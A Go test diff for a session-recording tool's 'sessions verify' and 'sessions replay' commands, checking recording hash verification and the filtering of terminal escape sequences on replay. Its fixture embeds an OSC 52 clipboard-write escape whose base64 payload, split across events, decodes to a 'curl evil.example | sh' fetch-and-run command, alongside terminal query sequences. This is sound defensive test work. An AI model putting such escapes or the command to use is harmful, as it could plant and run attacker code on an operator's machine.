@@ -1,6 +1,8 @@
 package main
 
 import (
+	"crypto/sha256"
+	"encoding/hex"
 	"encoding/json"
 	"errors"
 	"os"
@@ -170,5 +172,115 @@ func TestSessionsList(t *testing.T) {
 		if !found {
 			t.Errorf("list does not show %s:\n%s", want[0], out)
 		}
+	}
+}
+
+// castOutput is a terminal recording's output: colours, and what a
+// compromised target could send to drive the replaying terminal, split
+// across events.
+const castOutput = `{"version":2,"width":80,"height":24}` + "\n" +
+	`[0.1, "o", "\u001b[1;32mok\u001b[0m\u001b]52;c;Y3VybCBldmls"]` + "\n" +
+	`[0.2, "o", "LmV4YW1wbGUgfCBzaAo=\u0007\u001b]0;title\u0007\u001b[6n\u001bP$qm\u001b\\ done\r\n"]` + "\n"
+
+// recordShell writes session id with one shell whose terminal recording
+// holds castOutput; its command event holds the recording's hash when
+// covered (as the gateway writes it), or not (as it did before).
+func recordShell(t *testing.T, dir, id string, covered bool) (castPath string) {
+	t.Helper()
+	st, err := record.OpenStore(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	name := id + ".1.cast"
+	castPath = filepath.Join(dir, name)
+	if err := os.WriteFile(castPath, []byte(castOutput), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	r, err := st.Create(id, record.Start{Protocol: "ssh", Target: "bastion", Subject: "agent:demo"}, time.Now())
+	if err != nil {
+		t.Fatal(err)
+	}
+	cmd := record.Command{Text: "(shell)", Command: "shell", Decision: "allow", Tag: "exit 0", Recording: name}
+	if covered {
+		sum := sha256.Sum256([]byte(castOutput))
+		cmd.RecordingSHA256, cmd.RecordingBytes = hex.EncodeToString(sum[:]), int64(len(castOutput))
+	}
+	if err := r.Command(cmd); err != nil {
+		t.Fatal(err)
+	}
+	if err := r.Close(record.End{Reason: "client closed"}); err != nil {
+		t.Fatal(err)
+	}
+	return castPath
+}
+
+// sessions verify covers the terminal recordings: one altered, cut or
+// deleted is tampering (exit 1); one a log written before recordings were
+// hashed names verifies as before, and verify says it is not covered.
+func TestSessionsVerifyRecordings(t *testing.T) {
+	cfg, dir := sessionsConfig(t)
+	recordShell(t, dir, "intact", true)
+	rewritten := recordShell(t, dir, "rewritten", true)
+	os.WriteFile(rewritten, []byte(strings.Replace(castOutput, "done", "fine", 1)), 0o600)
+	cut := recordShell(t, dir, "cut", true)
+	os.Truncate(cut, 40)
+	os.Remove(recordShell(t, dir, "deleted", true))
+	recordShell(t, dir, "old", false)
+
+	tests := []struct {
+		id, text, status string
+		exit             int
+	}{
+		{"intact", "intact: intact and complete, 3 events\n", "intact", 0},
+		{"rewritten", `rewritten: TAMPERED: line 2: terminal recording "rewritten.1.cast" was altered: its sha256 is `, "tampered", 1},
+		{"cut", `cut: TAMPERED: line 2: terminal recording "cut.1.cast" was altered: it has 40 bytes, the log says `, "tampered", 1},
+		{"deleted", `deleted: TAMPERED: line 2: terminal recording "deleted.1.cast" is missing`, "tampered", 1},
+		{"old", "old: intact and complete, 3 events; terminal recording(s) old.1.cast not covered: the log holds no hash of them", "intact", 0},
+	}
+	for _, tt := range tests {
+		out, err := runCLI(t, "sessions", "verify", tt.id, "--config", cfg)
+		if got := exitStatus(err); got != tt.exit || !strings.HasPrefix(out, tt.text) {
+			t.Errorf("verify %s: exit %d, %q; want exit %d, %q...", tt.id, got, out, tt.exit, tt.text)
+		}
+		out, err = runCLI(t, "sessions", "verify", tt.id, "--config", cfg, "-o", "json")
+		var got struct {
+			Status     string
+			Recordings []record.RecordingCheck
+		}
+		if jerr := json.Unmarshal([]byte(out), &got); jerr != nil || got.Status != tt.status || exitStatus(err) != tt.exit ||
+			len(got.Recordings) != 1 || got.Recordings[0].Name != tt.id+".1.cast" {
+			t.Errorf("verify -o json %s: exit %d, %s (%v); want status %q, exit %d, the recording", tt.id, exitStatus(err), out, jerr, tt.status, tt.exit)
+		}
+	}
+}
+
+// sessions replay writes what renders the session and drops what would
+// drive the operator's terminal, however the recording split it; --raw
+// writes it all. An altered recording is not replayed.
+func TestSessionsReplayFiltered(t *testing.T) {
+	cfg, dir := sessionsConfig(t)
+	recordShell(t, dir, "s", true)
+	const filtered = "\x1b[1;32mok\x1b[0m done\r\n"
+	const raw = "\x1b[1;32mok\x1b[0m\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\a\x1b]0;title\a\x1b[6n\x1bP$qm\x1b\\ done\r\n"
+	for _, tt := range []struct {
+		args []string
+		want string
+	}{
+		{[]string{"--dump"}, filtered},
+		{[]string{"--speed", "1000"}, filtered},
+		{[]string{"--dump", "--raw"}, raw},
+		{[]string{"--speed", "1000", "--raw"}, raw},
+	} {
+		out, err := runCLI(t, append([]string{"sessions", "replay", "s", "--config", cfg}, tt.args...)...)
+		if err != nil || out != tt.want {
+			t.Errorf("replay %v: %q, %v; want %q", tt.args, out, err, tt.want)
+		}
+	}
+
+	forged := recordShell(t, dir, "forged", true)
+	os.WriteFile(forged, []byte(strings.Replace(castOutput, "done", "fine", 1)), 0o600)
+	out, err := runCLI(t, "sessions", "replay", "forged", "--dump", "--raw", "--config", cfg)
+	if err == nil || !strings.Contains(err.Error(), "forged.1.cast was altered") || strings.Contains(out, "fine") {
+		t.Errorf("replay of an altered recording: %q, %v", out, err)
 	}
 }
